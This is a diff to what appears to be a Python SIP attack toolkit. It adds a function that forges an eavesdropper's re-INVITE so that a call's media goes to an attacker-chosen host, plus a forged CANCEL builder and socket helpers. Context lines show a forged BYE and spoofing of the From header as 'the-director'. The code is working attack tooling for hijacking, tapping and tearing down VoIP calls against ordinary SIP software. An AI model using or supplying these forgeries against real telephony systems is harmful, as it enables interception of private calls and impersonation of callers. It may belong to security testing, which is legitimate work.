@@ -134,6 +134,42 @@ def forged_bye(invite: bytes, answer: bytes, attacker: str) -> bytes:
     return ("\r\n".join(lines) + "\r\n\r\n").encode()
 
 
+def forged_reinvite(invite: bytes, answer: bytes, attacker: str, port: int) -> bytes:
+    """Return the re-INVITE of an eavesdropper that asks for the call's media himself."""
+    bye = forged_bye(invite, answer, attacker).decode()
+    body = session(attacker, port)
+    head = bye.replace("BYE", "INVITE").replace("Content-Length: 0\r\n\r\n", "")
+    lines = [
+        f"Contact: <sip:attacker@{attacker}:5060>",
+        "Content-Type: application/sdp",
+        f"Content-Length: {len(body)}",
+    ]
+    return (head + "\r\n".join(lines) + "\r\n\r\n" + body).encode()
+
+
+def cancel_of(invite: bytes) -> bytes:
+    """Return the CANCEL of a pending INVITE: same branch, same all (RFC 3261 section 9.1)."""
+    target = invite.split(b" ", 2)[1].decode()
+    echoed = [f"{name}: {header(invite, name)}" for name in ("Via", "From", "To", "Call-ID")]
+    number = header(invite, "CSeq").split()[0]
+    lines = [f"CANCEL {target} SIP/2.0", *echoed, f"CSeq: {number} CANCEL"]
+    return ("\r\n".join([*lines, "Max-Forwards: 70", "Content-Length: 0"]) + "\r\n\r\n").encode()
+
+
+def listener(address: str, port: int = 5060) -> socket.socket:
+    """Return a TCP socket that accepts connections."""
+    made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    made.bind((address, port))
+    made.listen()
+    return made
+
+
+def connection(address: str, port: int = 5060) -> socket.socket:
+    """Return a TCP connection; raises ConnectionRefusedError upon a reset."""
+    return socket.create_connection((address, port), 3)
+
+
 def with_changed_from(invite: bytes, *, new_branch: bool = True) -> bytes:
     """Return a captured INVITE with another caller's name in From, on a new branch by default."""
     changed = re.sub(rb"(?im)^(From:[^<\r]*<sips?:)[^@]+@", rb"\1the-director@", invite, count=1)
